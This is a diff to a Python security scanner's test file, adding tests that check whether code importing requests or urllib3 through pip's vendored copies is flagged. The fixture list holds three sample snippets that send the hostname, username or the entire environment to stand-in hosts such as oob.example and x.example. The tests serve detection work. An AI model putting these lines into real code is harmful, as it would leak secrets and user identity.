@@ -6,7 +6,10 @@ import ast
 import sysconfig
 from pathlib import Path
 
+import pytest
+
 from caplet._scan._syntax import TooComplex, focus, focus_bindings, survey
+from tests._scan.prefilterkit import kept_by_the_prefilter, tree_danger
 
 SOURCE = Path(sysconfig.get_paths()["stdlib"]) / "tarfile.py"
 #: What ast.walk yields that the survey never lists (and no rule visits).
@@ -58,3 +61,35 @@ def test_focus_bindings_are_the_module_level_and_class_bindings() -> None:
     config = tree.body[1]
     assert isinstance(config, ast.ClassDef)
     assert focus(tree, frozenset({5})) == [tree.body[0], config.body[1]]
+
+
+# -- blind17: a vendored copy of a library is that library ------------------------------------
+
+#: tune b17-re-pip-vendor-requests: a beacon sent through pip's copy of requests.
+VENDORED_EGRESS = [
+    "import getpass, socket\nfrom pip._vendor import requests as _rq\n"
+    "_rq.get('https://oob.example/b',\n"
+    "        params={'h': socket.gethostname(), 'u': getpass.getuser()})\n",
+    "import os\nfrom pip._vendor.urllib3 import PoolManager\n"
+    "PoolManager().request('POST', 'https://x.example/e', body=str(dict(os.environ)))\n",
+    "import os\nimport pip._vendor.requests as r\n"
+    "r.post('https://x.example/e', json=dict(os.environ))\n",
+]
+
+
+@pytest.mark.parametrize("source", VENDORED_EGRESS)
+def test_a_library_imported_through_its_vendored_copy_is_that_library(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    kept_by_the_prefilter(tmp_path, monkeypatch, source)
+
+
+def test_vendored_copies_used_as_the_library_is_used_stay_clean(tmp_path: Path) -> None:
+    # pip's own code and a tool fetching the index with pip's requests: no host data sent
+    (tmp_path / "mod.py").write_text(
+        "from pip._vendor import requests\nfrom pip._vendor.packaging.version import Version\n"
+        "def latest(name):\n"
+        "    data = requests.get(f'https://pypi.org/pypi/{name}/json', timeout=5).json()\n"
+        "    return max(Version(v) for v in data['releases'])\n"
+    )
+    assert not tree_danger(tmp_path)
